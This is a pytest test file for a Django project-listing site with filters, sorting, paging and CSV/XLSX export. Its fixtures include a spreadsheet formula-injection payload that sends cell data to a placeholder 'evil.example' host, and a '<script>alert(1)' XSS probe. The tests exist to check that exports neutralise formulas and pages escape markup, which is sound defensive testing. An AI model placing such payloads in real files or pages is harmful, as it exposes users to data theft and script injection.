"""/projects/: the filter form from ProjectFilterSet, sort links, paging, export (each filter's
and sort key's rows: test_project_filters.py)."""

import csv
import io
from decimal import Decimal
from urllib.parse import parse_qs, urlparse

import pytest
from openpyxl import load_workbook

from projects.choices import Stage
from projects.models import Project
from tests.factories import IndustryFactory, ProjectFactory

from .conftest import assert_valid_html
from .helpers import listed_codes

pytestmark = pytest.mark.django_db


def test_anonymous_list_shows_published_projects_only(client, site):
    response = client.get("/projects/?page_size=100")
    assert response.status_code == 200
    assert_valid_html(response.content)
    codes = listed_codes(response)
    assert set(codes) == set(Project.objects.public().values_list("code", flat=True))
    assert site["hidden"].code not in codes


def test_form_fields_come_from_the_filterset(client, site):
    from projects.filtersets import ProjectFilterSet

    html = client.get("/projects/").content.decode()
    for name in ProjectFilterSet.base_filters:
        if name != "published":  # only officials filter on publication
            assert f'name="{name}"' in html, name
    assert 'name="published"' not in html


def test_active_filters_are_shown_and_each_can_be_removed(client, site):
    response = client.get("/projects/?district=hualong&stage=planned&page=1")
    chips = response.context["active_filters"]
    assert {chip["name"] for chip in chips} == {"district", "stage"}
    district_chip = next(chip for chip in chips if chip["name"] == "district")
    assert district_chip["value"] == "华龙区"
    assert parse_qs(district_chip["remove_query"]) == {"stage": ["planned"]}
    # Following the removal link lists every stage-planned project of every district.
    after = client.get("/projects/?" + district_chip["remove_query"])
    expected = Project.objects.public().filter(stage=Stage.PLANNED).values_list("code", flat=True)
    assert sorted(listed_codes(after)) == sorted(expected)


def test_a_sorted_column_is_marked_and_its_link_toggles_the_direction(client, site):
    """(The order of the rows for every key: test_project_filters.py.)"""
    response = client.get("/projects/?ordering=-total_investment&page_size=100")
    column = response.context["columns"]["total_investment"]
    assert column["sorted"] == "descending"
    assert parse_qs(column["query"])["ordering"] == ["total_investment"]
    assert 'aria-sort="descending"' in response.content.decode()


def test_paging_with_many_rows(client, site):
    from tests.factories import ProjectFactory

    district = site["districts"][1]
    ProjectFactory.create_batch(25, district=district)
    total = Project.objects.public().filter(district=district).count()
    first = client.get(f"/projects/?district={district.code}&page_size=20")
    assert len(listed_codes(first)) == 20
    next_link = first.context["page_obj"].next_page_number()
    html = first.content.decode()
    assert f"district={district.code}" in html and f"page={next_link}" in html
    second = client.get(f"/projects/?district={district.code}&page_size=20&page=2")
    codes = listed_codes(first) + listed_codes(second)
    assert len(codes) == len(set(codes)) == total


@pytest.mark.parametrize(
    "query",
    ["year=abc", "min_investment=-5", "district=nowhere", "stage=flying", "ordering=secret"],
)
def test_bad_filters_are_answered_on_the_form(client, site, query):
    response = client.get(f"/projects/?{query}")
    assert response.status_code == 400
    assert response.context["filterset"].errors
    assert 'class="errorlist' in response.content.decode()
    assert listed_codes(response) == []


def test_a_bad_page_number_shows_a_page_not_an_error(client, site):
    assert client.get("/projects/?page=999").status_code == 200
    assert client.get("/projects/?page=x&page_size=7").status_code == 200


def test_script_in_a_name_is_shown_as_text(client, site):
    html = client.get("/projects/?search=script").content.decode()
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "<script>alert(1)" not in html


def test_csv_export_has_exactly_the_filtered_rows_with_chinese_headers(client, site):
    query = "district=hualong&stage=planned&ordering=-total_investment"
    response = client.get(f"/projects/export.csv?{query}")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0][:3] == ["项目代码", "国家项目代码", "项目名称"]
    assert "2022年计划投资（万元）" in rows[0]
    expected = list(
        Project.objects.public()
        .filter(district__code="hualong", stage=Stage.PLANNED)
        .order_by("-total_investment")
        .values_list("code", "total_investment")
    )
    assert [(row[0], row[9]) for row in rows[1:]] == [(c, f"{t:.2f}") for c, t in expected]
    assert site["hidden"].code not in text


def test_xlsx_export_matches_the_list(client, site):
    page = client.get("/projects/?district=jingkai&page_size=100")
    response = client.get("/projects/export.xlsx?district=jingkai")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    values = list(sheet.iter_rows(values_only=True))
    assert values[0][0] == "项目代码"
    assert [row[0] for row in values[1:]] == listed_codes(page)
    assert all(isinstance(row[9], (int, float)) for row in values[1:])


FORMULAS = {
    "name": '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "location": "@SUM(1+1)",
}


@pytest.fixture
def formula_project(site):
    return ProjectFactory(
        code="formula",
        district=site["districts"][0],
        name=FORMULAS["name"],
        location=FORMULAS["location"],
        total_investment=Decimal("1000.00"),
    )


def test_csv_export_keeps_formula_like_text_as_text(client, formula_project):
    response = client.get("/projects/export.csv?search=formula")
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    [header, row] = list(csv.reader(io.StringIO(text)))
    cells = dict(zip(header, row, strict=True))
    assert cells["项目名称"] == "'" + FORMULAS["name"]
    assert cells["建设地点"] == "'" + FORMULAS["location"]
    assert cells["总投资（万元）"] == "1000.00"


def test_xlsx_export_keeps_formula_like_text_as_text(client, formula_project):
    response = client.get("/projects/export.xlsx?search=formula")
    sheet = load_workbook(io.BytesIO(response.content)).active
    header = [cell.value for cell in sheet[1]]
    cells = dict(zip(header, sheet[2], strict=True))
    for column, text in (("项目名称", FORMULAS["name"]), ("建设地点", FORMULAS["location"])):
        assert cells[column].value == text
        assert cells[column].data_type == "s" and cells[column].quotePrefix
    assert cells["总投资（万元）"].data_type == "n"


def test_export_links_carry_the_filters_but_not_the_page(client, site):
    response = client.get("/projects/?district=hualong&page=1&page_size=50")
    assert response.context["export_query"] == "district=hualong"
    link = urlparse("/projects/export.csv?" + response.context["export_query"])
    assert parse_qs(link.query) == {"district": ["hualong"]}


def test_export_rejects_bad_filters(client, site):
    response = client.get("/projects/export.csv?year=abc")
    assert response.status_code == 400
    assert b"year" in response.content


def test_an_official_sees_the_unpublished_projects_of_the_district(client, site):
    from core.roles import Role
    from tests.factories import OfficialFactory

    official = OfficialFactory(role=Role.REPORTER, district=site["districts"][0])
    client.force_login(official.user)
    response = client.get("/projects/?page_size=100")
    assert site["hidden"].code in listed_codes(response)
    assert 'name="published"' in response.content.decode()


def test_the_filter_form_shows_each_querys_choices_and_new_ones_at_once(client, site):
    first, second = site["districts"]
    for chosen, other in ((first, second), (second, first)):
        html = client.get(f"/projects/?district={chosen.code}").content.decode()
        assert f'<option value="{chosen.code}" selected>' in html
        assert f'<option value="{other.code}">' in html
    IndustryFactory(code="ammonia", name="绿氨")
    assert '<option value="ammonia">' in client.get("/projects/").content.decode()
